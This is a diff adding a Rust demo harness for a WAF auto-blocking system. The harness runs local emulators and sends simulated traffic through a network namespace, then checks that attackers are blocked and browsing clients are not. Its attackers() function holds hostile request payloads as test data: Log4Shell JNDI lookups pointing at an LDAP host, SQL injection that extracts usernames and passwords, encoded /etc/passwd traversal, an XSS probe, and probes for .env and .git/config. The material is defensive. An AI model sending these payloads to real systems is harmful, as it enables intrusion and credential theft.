@@ -1,0 +1,1054 @@
+//! The main job, end to end on one machine: `make demo` runs this through the `palisade-demo`
+//! binary, and `tests/tests/demo.rs` runs it in CI and checks the outcome.
+//!
+//! What it sets up (everything is stopped and removed when [`run`] returns, also on failure or
+//! Ctrl-C, because every piece is a guard that cleans up on drop):
+//! - a real `nats-server` with JetStream on a free loopback port;
+//! - the AWS WAFv2 emulator (moto) behind the fault-and-limits proxy that enforces AWS's
+//!   documented limits (1 write/s), with what Terraform would create in AWS: an IPv4 and an IPv6
+//!   IP set and a web ACL whose block rule references both;
+//! - a network namespace joined to this host by a veth pair: the namespace plays the load
+//!   balancer, the host plays the node running a small web app on the veth address;
+//! - `palisade-blocker` with the AWS provider pointed at the emulator, and `palisade-sensor`
+//!   with its eBPF program on the veth (or, where eBPF is not permitted, reading the app's
+//!   access log);
+//! - a realistic mix of requests from made-up clients (documentation addresses) forwarded by
+//!   the "load balancer" with `X-Forwarded-For`: browsing from most, attacks from a few.
+//!
+//! It then waits until every attacker's address is in the WAF IP sets (as GetIPSet returns
+//! them) and reports the rule that caught each one, the time from its first attack to the block,
+//! and that no benign client was blocked.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::io::Write as _;
+use std::net::{IpAddr, SocketAddr};
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+use anyhow::{Context, bail};
+use aws_config::{BehaviorVersion, Region};
+use aws_sdk_wafv2::Client;
+use aws_sdk_wafv2::types::{
+    AllowAction, BlockAction, DefaultAction, IpAddressVersion, IpSetReferenceStatement,
+    OrStatement, Rule, RuleAction, Scope, Statement, VisibilityConfig,
+};
+use serde::Serialize;
+use serde_json::json;
+use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
+use tokio::net::TcpListener;
+use tokio::process::{Child, Command};
+
+use crate::moto::{FaultProxy, MotoServer, ProxyConfig};
+use crate::nats::NatsServer;
+use crate::netns::VethNamespace;
+
+const REGION: &str = "us-east-1";
+/// Port of the demo web app on the veth address.
+const APP_PORT: u16 = 8080;
+/// How long the demo waits for every attacker to be blocked.
+const BLOCK_DEADLINE: Duration = Duration::from_secs(60);
+/// The made-up clients live in documentation ranges; the demo opts in to blocking them (the
+/// blocker's guardrails refuse these ranges by default).
+const DEMO_RANGES: [&str; 4] = [
+    "192.0.2.0/24",
+    "198.51.100.0/24",
+    "203.0.113.0/24",
+    "2001:db8::/32",
+];
+
+/// How the sensor sees traffic in this run.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SensorMode {
+    /// eBPF TC program on the veth.
+    Ebpf,
+    /// The app's access log (where eBPF is not permitted).
+    Log,
+}
+
+/// Options for [`run`].
+#[derive(Debug, Clone)]
+pub struct DemoOptions {
+    /// Directory holding the `palisade-blocker` and `palisade-sensor` binaries.
+    pub bin_dir: PathBuf,
+    /// Force a sensor mode; `None` picks eBPF when it can run here.
+    pub mode: Option<SensorMode>,
+    /// Print progress as it goes.
+    pub verbose: bool,
+}
+
+/// One attacker in the outcome.
+#[derive(Debug, Clone, Serialize)]
+pub struct Attacker {
+    pub client: IpAddr,
+    /// What the demo sent.
+    pub attack: String,
+    /// Rules the blocker recorded as reasons.
+    pub rules: Vec<String>,
+    /// First attack sent -> address visible in GetIPSet, seconds (None if never blocked).
+    pub seconds_to_block: Option<f64>,
+}
+
+/// What the demo observed.
+#[derive(Debug, Clone, Serialize)]
+pub struct DemoOutcome {
+    pub mode: SensorMode,
+    pub attackers: Vec<Attacker>,
+    /// Benign clients and whether any of them ended up blocked (must be empty).
+    pub benign_clients: usize,
+    pub benign_blocked: Vec<IpAddr>,
+    /// IP set contents as GetIPSet returns them, by set name.
+    pub ip_sets: BTreeMap<String, Vec<String>>,
+    /// Requests sent and answered.
+    pub requests_sent: usize,
+    pub requests_answered: usize,
+    /// UpdateIPSet calls the blocker made through the proxy.
+    pub update_calls: u64,
+    /// Throttling errors AWS (the proxy) returned to the blocker.
+    pub throttled: u64,
+}
+
+impl DemoOutcome {
+    /// Every attacker blocked and no benign client blocked?
+    pub fn success(&self) -> bool {
+        self.benign_blocked.is_empty()
+            && self.attackers.iter().all(|a| a.seconds_to_block.is_some())
+    }
+}
+
+/// One planned request.
+#[derive(Debug, Clone, Serialize)]
+struct PlannedRequest {
+    client: String,
+    method: &'static str,
+    path: String,
+    headers: BTreeMap<&'static str, String>,
+    body: String,
+    delay_ms: u64,
+}
+
+const BROWSER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36";
+
+fn request(client: &str, method: &'static str, path: &str, ua: &str) -> PlannedRequest {
+    let mut headers = BTreeMap::new();
+    headers.insert("User-Agent", ua.to_string());
+    headers.insert(
+        "Accept",
+        "text/html,application/json;q=0.9,*/*;q=0.8".to_string(),
+    );
+    PlannedRequest {
+        client: client.to_string(),
+        method,
+        path: path.to_string(),
+        headers,
+        body: String::new(),
+        delay_ms: 15,
+    }
+}
+
+/// The attackers: (client, what it does, its requests).
+fn attackers() -> Vec<(&'static str, &'static str, Vec<PlannedRequest>)> {
+    let log4shell = "203.0.113.66";
+    let sqli = "198.51.100.23";
+    let traversal = "2001:db8:bad::7";
+    let scanner = "203.0.113.201";
+    let mut l4 = request(log4shell, "GET", "/api/products?page=2", BROWSER_UA);
+    l4.headers.insert(
+        "X-Api-Version",
+        "${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/a}".to_string(),
+    );
+    let mut l4b = request(
+        log4shell,
+        "GET",
+        "/",
+        "${jndi:ldap://203.0.113.66:1389/Exploit}",
+    );
+    l4b.delay_ms = 200;
+    vec![
+        (
+            log4shell,
+            "Log4Shell (obfuscated JNDI lookup in a header)",
+            vec![l4, l4b],
+        ),
+        (
+            sqli,
+            "SQL injection (UNION SELECT in a query parameter)",
+            vec![
+                request(
+                    sqli,
+                    "GET",
+                    "/api/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
+                    BROWSER_UA,
+                ),
+                request(sqli, "GET", "/api/products?id=1%20AND%201=1", BROWSER_UA),
+                request(
+                    sqli,
+                    "GET",
+                    "/api/products?id=1%27%20AND%20SLEEP(5)--%20-",
+                    BROWSER_UA,
+                ),
+            ],
+        ),
+        (
+            traversal,
+            "path traversal (encoded ../../etc/passwd)",
+            vec![
+                request(
+                    traversal,
+                    "GET",
+                    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
+                    BROWSER_UA,
+                ),
+                request(
+                    traversal,
+                    "GET",
+                    "/download?file=....//....//....//etc/passwd",
+                    BROWSER_UA,
+                ),
+            ],
+        ),
+        (
+            scanner,
+            "vulnerability scanner (Nikto probing for secrets)",
+            // What Nikto really sends: file probes, then XSS and traversal tests.
+            [
+                "/.env",
+                "/.git/config",
+                "/phpmyadmin/",
+                "/?q=%3Cscript%3Ealert(42)%3C/script%3E",
+                "/index.php?page=../../../../../../etc/passwd",
+            ]
+            .iter()
+            .map(|p| {
+                request(
+                    scanner,
+                    "GET",
+                    p,
+                    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
+                )
+            })
+            .collect(),
+        ),
+    ]
+}
+
+/// Benign clients browsing the shop.
+fn benign() -> Vec<(&'static str, Vec<PlannedRequest>)> {
+    let clients = [
+        "192.0.2.10",
+        "192.0.2.11",
+        "198.51.100.40",
+        "203.0.113.15",
+        "2001:db8:cafe::1",
+        "2001:db8:cafe::2",
+    ];
+    let pages = [
+        "/",
+        "/products?category=union+select+committee+minutes",
+        "/search?q=how+to+select+a+union+rep",
+        "/blog/why-we-escape-%3Cscript%3E-tags",
+        "/static/app.js",
+        "/static/report..final.pdf",
+        "/api/products?id=42&sort=price",
+        "/account?name=O%27Brien",
+        "/cart",
+    ];
+    clients
+        .iter()
+        .enumerate()
+        .map(|(i, c)| {
+            let mut reqs: Vec<PlannedRequest> = pages
+                .iter()
+                .cycle()
+                .skip(i)
+                .take(6)
+                .map(|p| request(c, "GET", p, BROWSER_UA))
+                .collect();
+            let mut post = request(c, "POST", "/api/orders", BROWSER_UA);
+            post.headers
+                .insert("Content-Type", "application/json".to_string());
+            post.body = format!(r#"{{"sku":"A-{i}","qty":1,"note":"leave at the door, thanks"}}"#);
+            reqs.push(post);
+            (*c, reqs)
+        })
+        .collect()
+}
+
+/// Interleave the clients' requests the way real traffic arrives.
+fn interleave(lists: Vec<Vec<PlannedRequest>>) -> Vec<PlannedRequest> {
+    let mut iters: Vec<_> = lists.into_iter().map(|l| l.into_iter()).collect();
+    let mut out = Vec::new();
+    loop {
+        let mut any = false;
+        for it in iters.iter_mut() {
+            if let Some(r) = it.next() {
+                out.push(r);
+                any = true;
+            }
+        }
+        if !any {
+            return out;
+        }
+    }
+}
+
+fn unix_ms() -> u128 {
+    SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_millis())
+        .unwrap_or(0)
+}
+
+fn say(verbose: bool, msg: impl std::fmt::Display) {
+    if verbose {
+        let mut out = std::io::stderr().lock();
+        let _ = writeln!(out, "\x1b[1;34m[demo]\x1b[0m {msg}");
+    }
+}
+
+/// A child process killed when dropped, with its log kept for error messages.
+struct Service {
+    name: &'static str,
+    child: Child,
+    log: PathBuf,
+}
+
+impl Service {
+    async fn spawn(name: &'static str, mut cmd: Command, dir: &Path) -> anyhow::Result<Service> {
+        let log = dir.join(format!("{name}.log"));
+        let file = std::fs::File::create(&log).with_context(|| format!("creating {log:?}"))?;
+        let err = file.try_clone()?;
+        cmd.stdout(Stdio::from(file))
+            .stderr(Stdio::from(err))
+            .stdin(Stdio::null())
+            .kill_on_drop(true);
+        let child = cmd
+            .spawn()
+            .with_context(|| format!("starting {name} ({cmd:?})"))?;
+        Ok(Service { name, child, log })
+    }
+
+    /// Fail with the tail of its log if it has exited.
+    fn check_running(&mut self) -> anyhow::Result<()> {
+        if let Ok(Some(status)) = self.child.try_wait() {
+            bail!("{} exited ({status}):\n{}", self.name, tail(&self.log, 30));
+        }
+        Ok(())
+    }
+
+    /// SIGTERM, then wait for a clean exit (the services exit 0 on SIGTERM).
+    async fn stop(mut self) -> anyhow::Result<()> {
+        if let Some(pid) = self.child.id() {
+            let _ = std::process::Command::new("kill")
+                .args(["-TERM", &pid.to_string()])
+                .status();
+        }
+        match tokio::time::timeout(Duration::from_secs(10), self.child.wait()).await {
+            Ok(Ok(status)) if status.success() => Ok(()),
+            Ok(Ok(status)) => bail!("{} exited with {status} on SIGTERM", self.name),
+            Ok(Err(e)) => Err(e.into()),
+            Err(_) => bail!("{} did not stop within 10 s of SIGTERM", self.name),
+        }
+    }
+}
+
+fn tail(path: &Path, lines: usize) -> String {
+    let text = std::fs::read_to_string(path).unwrap_or_default();
+    let all: Vec<&str> = text.lines().collect();
+    all[all.len().saturating_sub(lines)..].join("\n")
+}
+
+/// A minimal web app: answers every request, and appends an nginx `combined`-style access-log
+/// line with the forwarded client (for the log-source mode). Runs until the task is aborted.
+async fn serve_app(listener: TcpListener, access_log: PathBuf) {
+    loop {
+        let Ok((mut sock, peer)) = listener.accept().await else {
+            continue;
+        };
+        let log = access_log.clone();
+        tokio::spawn(async move {
+            let mut buf = Vec::with_capacity(2048);
+            let mut chunk = [0u8; 2048];
+            // Read the head (and whatever body came with it); the demo's requests are small.
+            let head_end = loop {
+                match tokio::time::timeout(Duration::from_secs(5), sock.read(&mut chunk)).await {
+                    Ok(Ok(0)) | Ok(Err(_)) | Err(_) => return,
+                    Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
+                }
+                if let Some(p) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
+                    break p;
+                }
+                if buf.len() > 64 * 1024 {
+                    return;
+                }
+            };
+            let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
+            let mut lines = head.split("\r\n");
+            let request_line = lines.next().unwrap_or_default().to_string();
+            let mut ua = "-".to_string();
+            let mut xff = "-".to_string();
+            for line in lines {
+                if let Some((k, v)) = line.split_once(':') {
+                    match k.trim().to_ascii_lowercase().as_str() {
+                        "user-agent" => ua = v.trim().to_string(),
+                        "x-forwarded-for" => xff = v.trim().to_string(),
+                        _ => {}
+                    }
+                }
+            }
+            let path = request_line.split(' ').nth(1).unwrap_or("/");
+            let (status, body) = if path == "/" || path.starts_with("/products") {
+                (200, "<html><body><h1>Demo shop</h1></body></html>")
+            } else if path.starts_with("/api/") {
+                (200, "{\"ok\":true}")
+            } else {
+                (404, "not found")
+            };
+            let reply = format!(
+                "HTTP/1.1 {status} {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                if status == 200 { "OK" } else { "Not Found" },
+                body.len()
+            );
+            let _ = sock.write_all(reply.as_bytes()).await;
+            let _ = sock.shutdown().await;
+            // JSON access-log line, envoy style, with the forwarded-for header.
+            let line = json!({
+                "start_time": chrono_like_now(),
+                "downstream_remote_address": peer.to_string(),
+                "method": request_line.split(' ').next().unwrap_or("-"),
+                "path": path,
+                "protocol": "HTTP/1.1",
+                "response_code": status,
+                "user_agent": ua,
+                "x_forwarded_for": xff,
+            });
+            if let Ok(mut f) = std::fs::OpenOptions::new()
+                .create(true)
+                .append(true)
+                .open(&log)
+            {
+                let _ = writeln!(f, "{line}");
+            }
+        });
+    }
+}
+
+/// RFC 3339 UTC timestamp without pulling in a date crate.
+fn chrono_like_now() -> String {
+    let secs = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or(0);
+    let days = secs / 86_400;
+    let rem = secs % 86_400;
+    // Civil from days (Howard Hinnant's algorithm).
+    let z = days as i64 + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z.rem_euclid(146_097);
+    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let d = doy - (153 * mp + 2) / 5 + 1;
+    let m = if mp < 10 { mp + 3 } else { mp - 9 };
+    let y = yoe + era * 400 + i64::from(m <= 2);
+    format!(
+        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}Z",
+        rem / 3600,
+        (rem % 3600) / 60,
+        rem % 60
+    )
+}
+
+fn visibility(name: &str) -> anyhow::Result<VisibilityConfig> {
+    Ok(VisibilityConfig::builder()
+        .sampled_requests_enabled(true)
+        .cloud_watch_metrics_enabled(true)
+        .metric_name(name)
+        .build()?)
+}
+
+/// Create what `terraform/` creates in AWS: two IP sets and a web ACL blocking them.
+async fn create_waf(admin: &Client) -> anyhow::Result<(String, String, String)> {
+    let mut arns = Vec::new();
+    for (name, version) in [
+        ("palisade-demo-v4", IpAddressVersion::Ipv4),
+        ("palisade-demo-v6", IpAddressVersion::Ipv6),
+    ] {
+        let out = admin
+            .create_ip_set()
+            .name(name)
+            .scope(Scope::Regional)
+            .ip_address_version(version)
+            .description("Addresses blocked by Palisade (managed at runtime)")
+            .set_addresses(Some(Vec::new()))
+            .send()
+            .await
+            .with_context(|| format!("CreateIPSet {name}"))?;
+        let arn = out
+            .summary
+            .and_then(|s| s.arn)
+            .context("CreateIPSet returned no ARN")?;
+        arns.push(arn);
+    }
+    let reference = |arn: &str| -> anyhow::Result<Statement> {
+        Ok(Statement::builder()
+            .ip_set_reference_statement(IpSetReferenceStatement::builder().arn(arn).build()?)
+            .build())
+    };
+    let rule = Rule::builder()
+        .name("palisade-block")
+        .priority(0)
+        .action(
+            RuleAction::builder()
+                .block(BlockAction::builder().build())
+                .build(),
+        )
+        .statement(
+            Statement::builder()
+                .or_statement(
+                    OrStatement::builder()
+                        .statements(reference(&arns[0])?)
+                        .statements(reference(&arns[1])?)
+                        .build()?,
+                )
+                .build(),
+        )
+        .visibility_config(visibility("palisade-block")?)
+        .build()?;
+    let acl = admin
+        .create_web_acl()
+        .name("palisade-demo")
+        .scope(Scope::Regional)
+        .default_action(
+            DefaultAction::builder()
+                .allow(AllowAction::builder().build())
+                .build(),
+        )
+        .rules(rule)
+        .visibility_config(visibility("palisade-demo")?)
+        .send()
+        .await
+        .context("CreateWebACL")?;
+    let acl_arn = acl
+        .summary
+        .and_then(|s| s.arn)
+        .context("CreateWebACL returned no ARN")?;
+    Ok((arns[0].clone(), arns[1].clone(), acl_arn))
+}
+
+fn name_and_id(arn: &str) -> anyhow::Result<(String, String)> {
+    let mut parts = arn.rsplit('/');
+    let id = parts.next().context("ARN without id")?.to_string();
+    let name = parts.next().context("ARN without name")?.to_string();
+    Ok((name, id))
+}
+
+/// Addresses of one IP set as GetIPSet returns them.
+async fn get_ip_set(admin: &Client, arn: &str) -> anyhow::Result<(String, Vec<String>)> {
+    let (name, id) = name_and_id(arn)?;
+    let out = admin
+        .get_ip_set()
+        .name(&name)
+        .id(id)
+        .scope(Scope::Regional)
+        .send()
+        .await
+        .context("GetIPSet")?;
+    let addresses = out
+        .ip_set
+        .map(|s| s.addresses().to_vec())
+        .unwrap_or_default();
+    Ok((name, addresses))
+}
+
+fn host_prefix(ip: IpAddr) -> String {
+    match ip {
+        IpAddr::V4(v4) => format!("{v4}/32"),
+        IpAddr::V6(v6) => format!("{v6}/128"),
+    }
+}
+
+/// Does this host allow loading eBPF programs and creating namespaces?
+pub fn ebpf_available() -> Result<(), String> {
+    match crate::netns::skip_reason() {
+        Some(reason) => Err(reason),
+        None => Ok(()),
+    }
+}
+
+/// Run the demo. See the module docs.
+pub async fn run(opts: DemoOptions) -> anyhow::Result<DemoOutcome> {
+    let v = opts.verbose;
+    let blocker_bin = opts.bin_dir.join("palisade-blocker");
+    let sensor_bin = opts.bin_dir.join("palisade-sensor");
+    for bin in [&blocker_bin, &sensor_bin] {
+        if !bin.exists() {
+            bail!("{bin:?} is missing: build first (cargo build --release --bins)");
+        }
+    }
+    // The namespace is needed in both modes (it plays the load balancer).
+    if let Some(reason) = crate::netns::skip_reason() {
+        bail!("the demo needs root and network namespaces: {reason}");
+    }
+    let mode = match opts.mode {
+        Some(m) => m,
+        None => match ebpf_available() {
+            Ok(()) => SensorMode::Ebpf,
+            Err(reason) => {
+                say(
+                    v,
+                    format!("eBPF unavailable ({reason}); using the access-log source"),
+                );
+                SensorMode::Log
+            }
+        },
+    };
+    let work = tempfile::Builder::new()
+        .prefix("palisade-demo-")
+        .tempdir()
+        .context("creating the demo's work dir")?;
+
+    say(
+        v,
+        "starting nats-server (JetStream) on a free loopback port",
+    );
+    let nats = NatsServer::start().await?;
+    say(
+        v,
+        "starting the AWS WAFv2 emulator (moto) behind the AWS-limits proxy",
+    );
+    let moto = MotoServer::start().await?;
+    let proxy = FaultProxy::start(moto.endpoint(), ProxyConfig::default()).await?;
+    let sdk = aws_config::defaults(BehaviorVersion::latest())
+        .test_credentials()
+        .region(Region::new(REGION))
+        .load()
+        .await;
+    let admin = Client::from_conf(
+        aws_sdk_wafv2::config::Builder::from(&sdk)
+            .endpoint_url(moto.endpoint())
+            .build(),
+    );
+    let (v4_arn, v6_arn, acl_arn) = create_waf(&admin).await?;
+    say(v, format!("created IP sets {v4_arn} and {v6_arn}"));
+    say(
+        v,
+        format!("created web ACL {acl_arn} (rule palisade-block)"),
+    );
+
+    say(
+        v,
+        "creating the network namespace and veth pair (the load balancer side)",
+    );
+    let ns = VethNamespace::create()?;
+    let app_addr = SocketAddr::new(IpAddr::V4(ns.host_addr), APP_PORT);
+    let access_log = work.path().join("access.log");
+    std::fs::File::create(&access_log)?;
+    let listener = TcpListener::bind(app_addr)
+        .await
+        .with_context(|| format!("binding the demo app on {app_addr}"))?;
+    let app = tokio::spawn(serve_app(listener, access_log.clone()));
+    say(v, format!("demo web app listening on {app_addr}"));
+
+    let admin_port = crate::free_port()?;
+    let admin_url = format!("http://127.0.0.1:{admin_port}");
+    let mut blocker_cmd = Command::new(&blocker_bin);
+    blocker_cmd
+        .arg("--nats-url")
+        .arg(nats.url())
+        .arg("--admin-listen")
+        .arg(format!("127.0.0.1:{admin_port}"))
+        .arg("--state-dir")
+        .arg(work.path().join("blocker-state"))
+        .args(["--provider", "aws"])
+        .arg("--ipset-arn")
+        .arg(&v4_arn)
+        .arg("--ipset-arn")
+        .arg(&v6_arn)
+        .arg("--aws-endpoint-url")
+        .arg(proxy.endpoint())
+        .arg("--allow-special")
+        .arg(DEMO_RANGES.join(","))
+        .env("AWS_ACCESS_KEY_ID", "demo")
+        .env("AWS_SECRET_ACCESS_KEY", "demo")
+        .env("AWS_REGION", REGION)
+        .env("RUST_LOG", "info");
+    say(v, "starting palisade-blocker (AWS provider -> emulator)");
+    let mut blocker = Service::spawn("blocker", blocker_cmd, work.path()).await?;
+
+    let metrics_port = crate::free_port()?;
+    let mut sensor_cmd = Command::new(&sensor_bin);
+    sensor_cmd
+        .arg("--nats-url")
+        .arg(nats.url())
+        .args(["--sensor-id", "demo-node"])
+        .arg("--trusted-proxy")
+        .arg(format!("{}/32", ns.ns_addr))
+        .arg("--metrics-listen")
+        .arg(format!("127.0.0.1:{metrics_port}"))
+        .env("RUST_LOG", "info");
+    match mode {
+        SensorMode::Ebpf => {
+            sensor_cmd
+                .args(["--source", "ebpf"])
+                .arg("--interface")
+                .arg(&ns.host_if)
+                .arg("--port")
+                .arg(APP_PORT.to_string());
+        }
+        SensorMode::Log => {
+            sensor_cmd
+                .args(["--source", "log", "--log-format", "json"])
+                .arg("--log-file")
+                .arg(&access_log);
+        }
+    }
+    say(v, format!("starting palisade-sensor ({mode:?} source)"));
+    let mut sensor = Service::spawn("sensor", sensor_cmd, work.path()).await?;
+
+    // Wait until the blocker is ready and the sensor serves metrics (attached).
+    let http = HttpGet;
+    wait_http_ok(&mut blocker, &http, &format!("{admin_url}/readyz")).await?;
+    let metrics_url = format!("http://127.0.0.1:{metrics_port}/metrics");
+    wait_http_ok(&mut sensor, &http, &metrics_url).await?;
+    say(
+        v,
+        "blocker ready, sensor attached; sending traffic through the load balancer",
+    );
+
+    // The plan: every client's requests interleaved.
+    let attack_list = attackers();
+    let benign_list = benign();
+    let mut lists: Vec<Vec<PlannedRequest>> = benign_list.iter().map(|(_, r)| r.clone()).collect();
+    lists.extend(attack_list.iter().map(|(_, _, r)| r.clone()));
+    let plan = interleave(lists);
+    let plan_json = json!({"target": app_addr.to_string(), "requests": plan});
+    let script = crate::workspace_root().join("scripts/demo_traffic.py");
+    let mut traffic = ns
+        .exec_cmd(&["python3", &script.to_string_lossy()])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .context("starting the traffic generator in the namespace")?;
+    // std::process here (the namespace helper builds std commands); feed and read on a thread.
+    let mut stdin = traffic.stdin.take().context("traffic stdin")?;
+    let body = serde_json::to_vec(&plan_json)?;
+    std::thread::spawn(move || {
+        let _ = stdin.write_all(&body);
+    });
+    let stdout = traffic.stdout.take().context("traffic stdout")?;
+    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<serde_json::Value>();
+    std::thread::spawn(move || {
+        use std::io::BufRead;
+        for line in std::io::BufReader::new(stdout)
+            .lines()
+            .map_while(Result::ok)
+        {
+            if let Ok(v) = serde_json::from_str(&line) {
+                let _ = tx.send(v);
+            }
+        }
+    });
+
+    let attacker_ips: BTreeMap<IpAddr, &str> = attack_list
+        .iter()
+        .filter_map(|(c, what, _)| c.parse().ok().map(|ip| (ip, *what)))
+        .collect();
+    let benign_ips: BTreeSet<IpAddr> = benign_list
+        .iter()
+        .filter_map(|(c, _)| c.parse().ok())
+        .collect();
+    let mut first_attack: BTreeMap<IpAddr, u128> = BTreeMap::new();
+    let mut blocked_at: BTreeMap<IpAddr, u128> = BTreeMap::new();
+    let mut sent = 0usize;
+    let mut answered = 0usize;
+    let mut traffic_done = false;
+    let started = Instant::now();
+    loop {
+        // Drain what the generator reported.
+        loop {
+            match rx.try_recv() {
+                Ok(v) => {
+                    sent += 1;
+                    if v.get("status").and_then(|s| s.as_u64()).is_some() {
+                        answered += 1;
+                    }
+                    let client = v
+                        .get("client")
+                        .and_then(|c| c.as_str())
+                        .and_then(|c| c.parse().ok());
+                    let at = v.get("sent_ms").and_then(|t| t.as_u64()).map(u128::from);
+                    if let (Some(ip), Some(at)) = (client, at)
+                        && attacker_ips.contains_key(&ip)
+                    {
+                        first_attack.entry(ip).or_insert(at);
+                    }
+                }
+                Err(tokio::sync::mpsc::error::TryRecvError::Empty) => break,
+                Err(tokio::sync::mpsc::error::TryRecvError::Disconnected) => {
+                    traffic_done = true;
+                    break;
+                }
+            }
+        }
+        blocker.check_running()?;
+        sensor.check_running()?;
+        let now = unix_ms();
+        let mut present = BTreeSet::new();
+        for arn in [&v4_arn, &v6_arn] {
+            let (_, addrs) = get_ip_set(&admin, arn).await?;
+            present.extend(addrs);
+        }
+        for ip in attacker_ips.keys() {
+            if present.contains(&host_prefix(*ip)) {
+                blocked_at.entry(*ip).or_insert(now);
+            }
+        }
+        if traffic_done && blocked_at.len() == attacker_ips.len() {
+            break;
+        }
+        if started.elapsed() > BLOCK_DEADLINE {
+            say(v, "deadline reached before every attacker was blocked");
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let _ = traffic.wait();
+    // Give a late (wrong) benign block a chance to show up before judging.
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+
+    let (status, blocks_body) = http.get(&format!("{admin_url}/v1/blocks")).await?;
+    if status != 200 {
+        bail!("GET /v1/blocks answered {status}");
+    }
+    let blocks: serde_json::Value =
+        serde_json::from_str(&blocks_body).context("/v1/blocks JSON")?;
+    let mut ip_sets = BTreeMap::new();
+    let mut present = BTreeSet::new();
+    for arn in [&v4_arn, &v6_arn] {
+        let (name, addrs) = get_ip_set(&admin, arn).await?;
+        present.extend(addrs.iter().cloned());
+        ip_sets.insert(name, addrs);
+    }
+    let rules_for = |ip: IpAddr| -> Vec<String> {
+        let mut rules = BTreeSet::new();
+        for b in blocks_array(&blocks) {
+            let cidr = b.get("cidr").and_then(|c| c.as_str()).unwrap_or_default();
+            if cidr == host_prefix(ip) {
+                for r in b
+                    .get("reasons")
+                    .and_then(|r| r.as_array())
+                    .into_iter()
+                    .flatten()
+                {
+                    if let Some(rule) = r.get("rule").and_then(|x| x.as_str()) {
+                        rules.insert(rule.to_string());
+                    }
+                }
+            }
+        }
+        rules.into_iter().collect()
+    };
+    let attackers = attack_list
+        .iter()
+        .filter_map(|(c, what, _)| {
+            let ip: IpAddr = c.parse().ok()?;
+            let seconds = match (first_attack.get(&ip), blocked_at.get(&ip)) {
+                (Some(a), Some(b)) => Some(b.saturating_sub(*a) as f64 / 1000.0),
+                _ => None,
+            };
+            Some(Attacker {
+                client: ip,
+                attack: what.to_string(),
+                rules: rules_for(ip),
+                seconds_to_block: seconds,
+            })
+        })
+        .collect();
+    let benign_blocked = benign_ips
+        .iter()
+        .filter(|ip| present.contains(&host_prefix(**ip)) || !rules_for(**ip).is_empty())
+        .copied()
+        .collect();
+    let outcome = DemoOutcome {
+        mode,
+        attackers,
+        benign_clients: benign_ips.len(),
+        benign_blocked,
+        ip_sets,
+        requests_sent: sent,
+        requests_answered: answered,
+        update_calls: proxy.calls("UpdateIPSet"),
+        throttled: proxy.errors("ThrottlingException"),
+    };
+
+    say(v, "stopping the sensor and the blocker (SIGTERM)");
+    let sensor_stop = sensor.stop().await;
+    let blocker_stop = blocker.stop().await;
+    app.abort();
+    sensor_stop?;
+    blocker_stop?;
+    drop(ns);
+    drop(proxy);
+    drop(moto);
+    drop(nats);
+    Ok(outcome)
+}
+
+/// `/v1/blocks` may be a list or an object holding one under `blocks`.
+fn blocks_array(v: &serde_json::Value) -> Vec<serde_json::Value> {
+    match v {
+        serde_json::Value::Array(a) => a.clone(),
+        serde_json::Value::Object(o) => o
+            .get("blocks")
+            .and_then(|b| b.as_array())
+            .cloned()
+            .unwrap_or_default(),
+        _ => Vec::new(),
+    }
+}
+
+/// Wait until `url` answers 200, failing early if the service exits.
+async fn wait_http_ok(svc: &mut Service, http: &HttpGet, url: &str) -> anyhow::Result<()> {
+    let limit = Duration::from_secs(30);
+    let start = Instant::now();
+    loop {
+        svc.check_running()?;
+        if matches!(http.get(url).await, Ok((200, _))) {
+            return Ok(());
+        }
+        if start.elapsed() > limit {
+            bail!(
+                "{} did not answer 200 on {url} within {limit:?}:\n{}",
+                svc.name,
+                tail(&svc.log, 30)
+            );
+        }
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+/// A tiny HTTP/1.1 GET client for loopback admin endpoints (no extra dependency).
+#[derive(Debug)]
+struct HttpGet;
+
+impl HttpGet {
+    async fn get(&self, url: &str) -> anyhow::Result<(u16, String)> {
+        let rest = url.strip_prefix("http://").context("only http:// URLs")?;
+        let (authority, path) = match rest.find('/') {
+            Some(i) => (&rest[..i], &rest[i..]),
+            None => (rest, "/"),
+        };
+        let mut sock = tokio::time::timeout(
+            Duration::from_secs(2),
+            tokio::net::TcpStream::connect(authority),
+        )
+        .await
+        .context("connect timed out")??;
+        sock.write_all(
+            format!("GET {path} HTTP/1.1\r\nHost: {authority}\r\nConnection: close\r\n\r\n")
+                .as_bytes(),
+        )
+        .await?;
+        let mut reader = BufReader::new(sock);
+        let mut status_line = String::new();
+        reader.read_line(&mut status_line).await?;
+        let status: u16 = status_line
+            .split_whitespace()
+            .nth(1)
+            .and_then(|s| s.parse().ok())
+            .context("bad status line")?;
+        let mut rest = Vec::new();
+        tokio::time::timeout(Duration::from_secs(5), reader.read_to_end(&mut rest))
+            .await
+            .context("reading the response timed out")??;
+        let text = String::from_utf8_lossy(&rest);
+        let (headers, body) = text.split_once("\r\n\r\n").unwrap_or(("", &text));
